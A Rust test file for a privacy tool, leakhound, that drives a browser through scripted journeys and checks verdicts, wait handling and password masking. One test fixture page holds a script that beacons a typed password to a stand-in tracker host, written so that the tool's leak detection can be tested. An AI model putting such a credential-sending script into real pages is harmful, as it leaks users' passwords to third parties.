//! Honest verdicts: a journey whose page never loaded is incomplete, never a pass; certificate
//! errors are refused unless asked; waits end steps, not journeys; a click waits for the page it
//! opens; passwords that collide with the capture's own vocabulary work like any other.

mod common;

use std::collections::BTreeMap;
use std::path::Path;

use leakhound_browser::driver::RenderedText;
use leakhound_browser::journey::{run_journey, RunOptions, RunOutcome};
use leakhound_core::capture::record::{
    Canary, CanaryKind, JourneyInfo, Record, RequestRecord, RunStatus,
};
use leakhound_core::classify::{analyze_capture, ClassifyOptions, DataKind};
use leakhound_core::scenario::model::Scenario;
use leakhound_serve::{Site, SiteServer};

fn site() -> Site {
    let page = |body: &str| {
        format!("<!doctype html><meta charset=utf-8><title>t</title><body>{body}</body>")
            .into_bytes()
    };
    Site::new()
        .file(
            "www.v.test",
            "/",
            "text/html",
            page("<a id=next href=/slow-next.html>next</a><p>home</p>"),
        )
        .file(
            "www.v.test",
            "/slow-next.html",
            "text/html",
            page(
                "<script>document.write('<img src=/__lh/delay?ms=1200>')</script>\
                 <p id=arrived>arrived</p>",
            ),
        )
        .file(
            "www.v.test",
            "/busy.html",
            "text/html",
            page("<script>setInterval(() => fetch('/__lh/delay?ms=50'), 20)</script>"),
        )
        .file(
            "www.v.test",
            "/login.html",
            "text/html",
            page(
                "<input id=pw type=password>\
                 <script>document.getElementById('pw').addEventListener('change', e => \
                 navigator.sendBeacon('https://t.v-tracker.test/c', JSON.stringify({pw: e.target.value, type: 'request', kind: 'x'})));\
                 </script><button id=go onclick=\"document.getElementById('pw').blur()\">go</button>",
            ),
        )
        .tracker_host("*.v-tracker.test")
}

fn scenario(start: &str, steps: serde_json::Value) -> Scenario {
    serde_json::from_value(serde_json::json!({
        "name": "verdicts",
        "start_url": start,
        "steps": steps,
        "timeout_ms": 60000,
        "leave": {"url": "about:blank", "grace_ms": 500},
    }))
    .expect("valid scenario")
}

async fn run_live(
    scenario: &Scenario,
    rules: &str,
    capture: &Path,
    adjust: impl FnOnce(&mut RunOptions),
    secrets: &BTreeMap<String, String>,
) -> RunOutcome {
    let mut opts = RunOptions::new(capture.to_path_buf());
    opts.chromium_args = vec![format!("--host-resolver-rules={rules}")];
    adjust(&mut opts);
    let secret_values: Vec<String> = secrets.values().cloned().collect();
    let render = move |t: &str| {
        // `{{identity.password}}` stands for the secret, as the real template engine does.
        match t.strip_prefix("SECRET:") {
            Some(key) => Ok(RenderedText {
                text: secrets_lookup(&secret_values, key),
                canary_key: Some("password".into()),
                secret: true,
            }),
            None => Ok(RenderedText {
                text: t.to_string(),
                canary_key: None,
                secret: false,
            }),
        }
    };
    let journey = JourneyInfo {
        name: scenario.name.clone(),
        start_url: scenario.start_url.clone(),
        identity: secrets
            .keys()
            .map(|k| Canary {
                key: k.clone(),
                kind: CanaryKind::Password,
                value: None,
                env: Some("LH_TEST_PW".into()),
            })
            .collect(),
        ..Default::default()
    };
    run_journey(scenario, journey, secrets, &render, &opts, &|_, _, _| {})
        .await
        .expect("run")
}

fn secrets_lookup(values: &[String], _key: &str) -> String {
    values.first().cloned().unwrap_or_default()
}

/// Runs a journey of just its start page; also says whether the capture header records that
/// certificate errors were ignored.
async fn start_page_outcome(start: &str, rules: &str, ignore_cert: bool) -> (RunOutcome, bool) {
    let dir = tempfile::tempdir().expect("tempdir");
    let capture = dir.path().join("c.jsonl");
    let s = scenario(start, serde_json::json!([]));
    let outcome = run_live(
        &s,
        rules,
        &capture,
        |o| o.ignore_certificate_errors = ignore_cert,
        &BTreeMap::new(),
    )
    .await;
    let ignored = common::read_capture(&capture)
        .iter()
        .any(|r| matches!(r, Record::Header(h) if h.certificate_errors_ignored));
    (outcome, ignored)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_start_page_that_never_loads_is_incomplete_never_a_pass() {
    let server = SiteServer::start(site()).await.expect("server");
    let ok_rules = format!("MAP *.test {}", server.addr());
    let cases = [
        (
            "DNS failure",
            "http://nowhere.test/".to_string(),
            "MAP nowhere.test ~NOTFOUND".to_string(),
            "ERR_NAME_NOT_RESOLVED",
        ),
        (
            "connection refused",
            "http://www.v.test/".to_string(),
            "MAP *.test 127.0.0.1:1".to_string(),
            "ERR_CONNECTION_REFUSED",
        ),
        (
            "certificate error",
            "https://www.v.test/".to_string(),
            ok_rules.clone(),
            "ERR_CERT",
        ),
        (
            "HTTP 503",
            "http://www.v.test/__lh/status?code=503".to_string(),
            ok_rules.clone(),
            "503",
        ),
    ];
    for (name, start, rules, expected) in cases {
        let (outcome, ignored) = start_page_outcome(&start, &rules, false).await;
        assert!(!ignored);
        assert_eq!(
            outcome.end.status,
            RunStatus::Incomplete,
            "{name}: {:?}",
            outcome.end.reason
        );
        let reason = outcome.end.reason.unwrap_or_default();
        // Chromium shows its own error page for an empty 5xx answer
        // (ERR_HTTP_RESPONSE_CODE_FAILURE); a 5xx with a body loads and is caught by its status.
        let matches = reason.contains(expected)
            || (expected == "503" && reason.contains("ERR_HTTP_RESPONSE_CODE_FAILURE"));
        assert!(matches && reason.contains("step 0"), "{name}: {reason}");
    }
    // The same TLS site, with certificate errors accepted on request, loads and completes.
    let (outcome, ignored) = start_page_outcome("https://www.v.test/", &ok_rules, true).await;
    assert!(
        ignored,
        "the capture must say certificate errors were ignored"
    );
    assert_eq!(
        outcome.end.status,
        RunStatus::Complete,
        "{:?}",
        outcome.end.reason
    );
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn network_idle_gives_up_on_the_step_and_a_click_waits_for_its_page() {
    let server = SiteServer::start(site()).await.expect("server");
    let rules = format!("MAP *.test {}", server.addr());
    let dir = tempfile::tempdir().expect("tempdir");
    let capture = dir.path().join("c.jsonl");
    let s = scenario(
        "http://www.v.test/",
        serde_json::json!([
            // The next page takes > 1 s to load: the click must wait for it, so the `wait` for
            // its element succeeds at once with a 300 ms limit.
            {"action": "click", "selector": "#next"},
            {"action": "wait", "selector": "#arrived", "timeout_ms": 300},
            {"action": "goto", "url": "/busy.html"},
            // Never idle: the step gives up after its limit and the journey goes on.
            {"action": "wait", "network_idle": 500, "timeout_ms": 1500},
            {"action": "goto", "url": "/"}
        ]),
    );
    let outcome = run_live(&s, &rules, &capture, |_| {}, &BTreeMap::new()).await;
    assert_eq!(
        outcome.end.status,
        RunStatus::Complete,
        "{:?}",
        outcome.end.reason
    );
    assert_eq!(outcome.end.steps_run, 7);
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn any_password_works_and_never_reaches_the_capture_file() {
    let server = SiteServer::start(site()).await.expect("server");
    let rules = format!("MAP *.test {}", server.addr());
    for password in [
        "password",
        "1",
        "true",
        "type",
        "request",
        "pa\"ss",
        "back\\slash",
        "pässwörd✓",
    ] {
        let dir = tempfile::tempdir().expect("tempdir");
        let capture = dir.path().join("c.jsonl");
        let s = scenario(
            "https://www.v.test/login.html",
            serde_json::json!([
                {"action": "type", "selector": "#pw", "text": "SECRET:password"},
                {"action": "click", "selector": "#go"},
                {"action": "wait", "ms": 300}
            ]),
        );
        let secrets = BTreeMap::from([("password".to_string(), password.to_string())]);
        let outcome = run_live(
            &s,
            &rules,
            &capture,
            |o| o.ignore_certificate_errors = true,
            &secrets,
        )
        .await;
        assert_eq!(
            outcome.end.status,
            RunStatus::Complete,
            "{password:?}: {:?}",
            outcome.end.reason
        );
        // Every line parses: masking never touched the capture's structure.
        let records = common::read_capture(&capture);
        let beacon: Vec<&RequestRecord> = records
            .iter()
            .filter_map(|r| match r {
                Record::Request(r) if r.url.contains("v-tracker.test") => Some(r.as_ref()),
                _ => None,
            })
            .collect();
        assert_eq!(beacon.len(), 1, "{password:?}");
        let body = beacon[0]
            .body
            .as_ref()
            .map(|b| b.data.clone())
            .unwrap_or_default();
        assert!(
            body.contains("[LEAKHOUND-SECRET:password]"),
            "{password:?}: {body}"
        );
        // Words that are also leakhound's own vocabulary appear in the file anyway; the others
        // must not appear in any form (JSON-escaped as the file stores them).
        if !["password", "1", "true", "type", "request"].contains(&password) {
            let raw = std::fs::read_to_string(&capture).expect("capture");
            let escaped = serde_json::to_string(password).expect("json");
            let inner = &escaped[1..escaped.len() - 1];
            assert!(!raw.contains(inner), "{password:?} in the capture file");
        }
        // The classifier reports it as a credential sent to the tracker.
        let opts = ClassifyOptions {
            secrets: secrets.clone(),
            ..Default::default()
        };
        let (_, analysis) = analyze_capture(&capture, &opts).expect("classify");
        assert!(
            analysis
                .findings
                .iter()
                .any(|f| f.kind == DataKind::Credential && f.host == "t.v-tracker.test"),
            "{password:?}: {:?}",
            analysis.findings
        );
    }
    server.shutdown().await;
}
